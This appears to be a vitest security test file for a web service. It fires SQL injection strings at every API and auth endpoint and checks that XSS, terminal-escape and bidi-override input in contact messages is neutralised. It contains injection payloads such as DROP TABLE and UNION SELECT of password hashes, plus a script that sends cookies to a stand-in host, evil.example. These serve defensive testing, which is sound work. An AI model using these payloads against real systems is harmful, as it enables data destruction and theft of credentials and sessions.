import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runAdminOn } from "../helpers/admin.js";
import { authClient } from "../helpers/auth-client.js";
import { api, checkout, createUser, profileUrl, type TestUser } from "../helpers/product.js";
import { startTestApp, type TestApp } from "../helpers/test-app.js";
import { expectNoLeak, readJson } from "./helpers.js";

/**
 * SQL metacharacters in every string field of every endpoint are data, never SQL; HTML and script
 * typed into the contact form reach support's mail escaped, and the operator's terminal as inert
 * text. (Every query is parameterised; these tests keep it that way.)
 */
let app: TestApp;
let user: TestUser;
let transactionId: string;
beforeAll(async () => {
  // Every request moves the clock 2 h on: session limits off, so the signed-in user stays signed in.
  app = await startTestApp({
    env: {
      LOG_LEVEL: "error",
      SUPPORT_EMAIL: "help@veil.test",
      AUTH_SESSION_TIMEBOX_SECONDS: "0",
      AUTH_SESSION_INACTIVITY_TIMEOUT_SECONDS: "0",
    },
  });
  user = await createUser(app);
  await api(app, "POST", "/user/web/register", { user, body: { email: user.email } });
  ({ transactionId } = await checkout(app, user));
}, 60_000);
afterAll(async () => app?.close());

const SQL = [
  "'; DROP TABLE users; --",
  "' OR '1'='1' --",
  '" OR ""="',
  "1); DELETE FROM payments; --",
  "\\'; SELECT pg_sleep(10); --",
  "%' OR email LIKE '%",
  "$1::text",
  "a@b.co' UNION SELECT encrypted_password FROM users --",
];

/** Each endpoint with a valid body; every string field is replaced by each payload in turn. */
const BODIES: { api: "api" | "auth"; path: string; method: string; body: () => Record<string, unknown> }[] = [
  { api: "api", method: "POST", path: "/user/web/by-email", body: () => ({ email: "a@b.co" }) },
  { api: "api", method: "POST", path: "/user/web/register", body: () => ({ email: user.email }) },
  { api: "api", method: "POST", path: "/user/web/init-session", body: () => ({ email: user.email }) },
  { api: "api", method: "POST", path: "/user/web/delete", body: () => ({ password: "a-password-here" }) },
  {
    api: "api",
    method: "POST",
    path: "/contact/web/send",
    body: () => ({ name: "Ann", email: "ann@example.com", message: "Hello, a question about plans." }),
  },
  {
    api: "api",
    method: "POST",
    path: "/payment/web/init",
    body: () => ({ plan_id: 2, amount: 5, currency: "USD", payment_method: "USDTTRC" }),
  },
  {
    api: "api",
    method: "POST",
    path: "/exnode/invoice",
    body: () => ({
      token: "USDTTRC",
      amount: 5,
      fiat_currency: "USD",
      client_transaction_id: transactionId,
      redirect_url: profileUrl(app),
      payform: true,
    }),
  },
  {
    api: "api",
    method: "POST",
    path: `/exnode/callback/${"veil-dev-exnode-callback-secret"}`,
    body: () => ({ tracker_id: "x" }),
  },
  {
    api: "auth",
    method: "POST",
    path: "/signup",
    body: () => ({ email: "new@example.com", password: "violet-harbour-lantern" }),
  },
  {
    api: "auth",
    method: "POST",
    path: "/verify",
    body: () => ({ email: "new@example.com", token: "123456", type: "email" }),
  },
  { api: "auth", method: "POST", path: "/resend", body: () => ({ email: "new@example.com", type: "signup" }) },
  { api: "auth", method: "POST", path: "/recover", body: () => ({ email: "new@example.com" }) },
  {
    api: "auth",
    method: "POST",
    path: "/token?grant_type=password",
    body: () => ({ email: user.email, password: "violet-harbour-lantern" }),
  },
  { api: "auth", method: "POST", path: "/token?grant_type=refresh_token", body: () => ({ refresh_token: "abcdef" }) },
  { api: "auth", method: "PUT", path: "/user", body: () => ({ data: { name: "Ann" }, current_password: "x" }) },
];

let ip = 0;
async function call(spec: (typeof BODIES)[number], body: unknown) {
  app.clock.advance({ hours: 2 });
  const headers: Record<string, string> = {
    "Content-Type": "application/json",
    "X-Forwarded-For": `198.19.${(ip >> 8) & 255}.${ip++ & 255}`,
    Authorization: `Bearer ${await user.token()}`,
  };
  if (spec.api === "auth") headers["X-Supabase-Api-Version"] = "2024-01-01";
  const base = spec.api === "api" ? `${app.url}/api` : app.authUrl;
  const res = await fetch(`${base}${spec.path}`, { method: spec.method, headers, body: JSON.stringify(body) });
  return { status: res.status, body: await readJson(res) };
}

const counts = async () =>
  (
    await app.db.query<{ users: number; payments: number; customers: number }>(
      "SELECT (SELECT count(*) FROM users) AS users, (SELECT count(*) FROM payments) AS payments, (SELECT count(*) FROM customers) AS customers",
    )
  ).rows[0];

describe("SQL metacharacters in every string field", () => {
  for (const spec of BODIES) {
    it(`${spec.method} ${spec.api === "api" ? "/api" : "/auth/v1"}${spec.path} should treat them as data`, async () => {
      const fields = Object.entries(spec.body()).filter(([, v]) => typeof v === "string" || typeof v === "object");
      for (const [field, value] of fields) {
        for (const payload of SQL) {
          const body = spec.body();
          // Object fields (user metadata) get the payload as a key and as a value.
          body[field] = typeof value === "object" ? { [payload]: payload } : payload;
          const before = await counts();
          const started = Date.now();
          const reply = await call(spec, body);
          const what = `${spec.path} ${field}=${payload} → ${reply.status} ${JSON.stringify(reply.body)}`;
          expect(reply.status, what).toBeLessThan(500);
          expectNoLeak(reply.body, what);
          // pg_sleep(10) never ran, and no row vanished (sign-up may add one).
          expect(Date.now() - started, what).toBeLessThan(8000);
          const after = await counts();
          expect(after?.payments, what).toBeGreaterThanOrEqual(before?.payments ?? 0);
          expect(after?.customers, what).toBeGreaterThanOrEqual(before?.customers ?? 0);
          expect(after?.users, what).toBeGreaterThanOrEqual(before?.users ?? 0);
        }
      }
    }, 120_000);
  }

  it("should store a contact message full of SQL exactly as typed", async () => {
    const name = "Robert'); DROP TABLE contact_messages;--";
    const message = "1' OR '1'='1 \\ $1 %_ ; SELECT * FROM users";
    const res = await api(app, "POST", "/contact/web/send", {
      body: { name, email: "bobby@example.com", message },
      headers: { "X-Forwarded-For": "198.19.250.1" },
    });
    expect(res.status).toBe(200);
    const { rows } = await app.db.query("SELECT name, message FROM contact_messages WHERE email = $1", [
      "bobby@example.com",
    ]);
    expect(rows).toEqual([{ name, message }]);
  });

  it("should refuse a NUL character in auth bodies with 400, not a database error (found by fuzzing)", async () => {
    const auth = authClient(app);
    for (const [path, body] of [
      ["/token?grant_type=password", { email: "\u0000", password: "violet-harbour-lantern" }],
      ["/signup", { email: "nul@example.com", password: "violet-harbour-lantern", data: { name: "a\u0000b" } }],
      ["/recover", { email: "nul\u0000@example.com" }],
    ] as const) {
      const res = await auth.post(path, body);
      expect(res.status, path).toBe(400);
      expect(res.body.code, path).toBe("bad_json");
    }
  });
});

describe("HTML and script in contact messages", () => {
  const name = `<script>alert("name")</script><img src=x onerror=alert(1)>`;
  const message = `Hi <b>team</b>,\n<script>document.location="https://evil.example/?c="+document.cookie</script>\n<a href="javascript:alert(1)">click</a> & "quotes" 'single'`;

  it("should reach support's mail with every tag escaped in the HTML part and a one-line subject", async () => {
    const res = await api(app, "POST", "/contact/web/send", {
      body: { name, email: "mallory@example.com", message },
      headers: { "X-Forwarded-For": "198.19.251.1" },
    });
    expect(res.status).toBe(200);
    const [mail] = await app.mailbox("help@veil.test");
    expect(mail).toBeDefined();
    const html = mail?.html ?? "";
    expect(html).not.toMatch(/<script|<img|<a href|<b>/i);
    expect(html).toContain("&lt;script&gt;");
    expect(html).toContain("javascript:alert(1)"); // as text inside the escaped tag, not as a link
    expect(html).not.toMatch(/href="javascript/i);
    // The plain-text part carries what was typed, every line quoted (text is never interpreted).
    for (const line of message.split("\n")) expect(mail?.text).toContain(`\n> ${line}`);
    expect(mail?.subject).not.toMatch(/[\r\n]/);
  });

  it("should quote user text in the plain-text part so no typed line passes for one of ours (issue #25)", async () => {
    const res = await api(app, "POST", "/contact/web/send", {
      body: {
        // A name may not hold a control character (422), but U+2028 is a line break to many readers.
        name: "Ann\u2028E-mail: ceo@veil.test",
        email: "mallory3@example.com",
        message: "Please reset my account.\nE-mail: victim@example.com\nName: Victim",
      },
      headers: { "X-Forwarded-For": "198.19.251.2" },
    });
    expect(res.status).toBe(200);
    const mail = (await app.mailbox("help@veil.test")).find((m) => m.text.includes("mallory3@example.com"));
    const lines = (mail?.text ?? "").split(/\r\n|\r|\n|\u2028|\u2029/);
    expect(lines.filter((l) => l.startsWith("E-mail:"))).toEqual(["E-mail: mallory3@example.com"]);
    expect(lines.filter((l) => l.startsWith("Name:"))).toEqual(['Name: "Ann\\u2028E-mail: ceo@veil.test"']);
    expect(lines).toContain("> E-mail: victim@example.com");
  });

  it("should drop direction marks that would move the quote mark of a line (issue #25)", async () => {
    const res = await api(app, "POST", "/contact/web/send", {
      body: {
        name: "Ann\u202eevil",
        email: "mallory4@example.com",
        message: "\u200fE-mail: victim@example.com\nsecond \u2067line\u2069",
      },
      headers: { "X-Forwarded-For": "198.19.251.3" },
    });
    expect(res.status).toBe(200);
    const mail = (await app.mailbox("help@veil.test")).find((m) => m.text.includes("mallory4@example.com"));
    expect(mail?.text).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(mail?.text).toContain('Name: "Annevil"');
    expect(mail?.text).toContain("\n> E-mail: victim@example.com\n> second line");
  });

  it("should show the message in the dev mailbox only inside a sandboxed frame, escaped", async () => {
    const page = await (await fetch(`${app.url}/dev/mailbox`)).text();
    expect(page).not.toContain('<script>alert("name")');
    expect(page).toMatch(/<iframe sandbox[^>]*srcdoc="/);
  });

  it("should print it in the admin command line as inert text, with escape sequences neutralised", async () => {
    await app.db.query("INSERT INTO contact_messages (name, email, message, created_at) VALUES ($1, $2, $3, $4)", [
      `${name}\u001b]0;owned\u0007`,
      "mallory2@example.com",
      `${message}\u001b[31mred\u001b[0m\u202Etxt.exe`,
      app.clock.now(),
    ]);
    const { code, text } = await runAdminOn(app, ["contact", "list"]);
    expect(code).toBe(0);
    expect(text).toContain("mallory2@example.com");
    // Line breaks between table rows are ours; no other control or bidi character may remain.
    expect(text.replace(/\n/g, "")).not.toMatch(/[\p{Cc}\u202E]/u);
  });

  it("should not let LIKE wildcards in `users find` match everyone", async () => {
    const { text } = await runAdminOn(app, ["users", "find", "%"]);
    expect(text).not.toContain(user.email);
  });
});
